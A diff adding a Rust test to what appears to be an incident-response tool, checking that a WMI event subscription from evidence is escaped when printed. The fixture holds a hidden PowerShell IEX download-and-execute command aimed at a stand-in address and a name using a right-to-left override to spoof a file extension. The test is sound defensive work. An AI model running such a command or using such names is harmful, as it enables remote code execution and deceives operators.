@@ -1,6 +1,6 @@
 //! Plans and scripts.
 
-use crate::support::{TempDir, examples, run};
+use crate::support::{TempDir, examples, run, subscription};
 use serde_json::Value;
 use std::path::Path;
 
@@ -62,6 +62,24 @@ fn a_plan_is_for_one_host() {
     assert!(several.stderr.contains("--host"), "{}", several.stderr);
     let slip = run([Path::new("plan"), &examples(), "--host=PC-ACOUNTING".as_ref()]);
     assert!(slip.stderr.contains("did you mean `PC-ACCOUNTING`"), "{}", slip.stderr);
+}
+
+#[test]
+fn names_in_a_plan_do_not_act_on_the_terminal_and_are_whole() {
+    let folder = TempDir::new().unwrap();
+    let name = "\u{202E}gpj\u{200B}\u{9b}";
+    let query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'";
+    let command = "powershell -NoP -W Hidden -C \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')\"";
+    let evidence = folder.path().join("PC-1_WMI.txt");
+    std::fs::write(&evidence, subscription(name, query, command)).unwrap();
+    let printed = run([Path::new("plan"), &evidence]);
+    assert!(!printed.stdout.contains(|c: char| name.contains(c) && !c.is_ascii()), "{}", printed.stdout);
+    assert!(printed.stdout.contains(r"\u202egpj\u200b\u009b"), "{}", printed.stdout);
+    let plan: Value = serde_json::from_str(&printed.stdout).unwrap();
+    assert!(plan["actions"].to_string().contains(name), "{plan}");
+    let file = folder.path().join("plan.json");
+    std::fs::write(&file, &printed.stdout).unwrap();
+    assert_eq!(run([Path::new("script"), &file]).status, 0);
 }
 
 #[test]
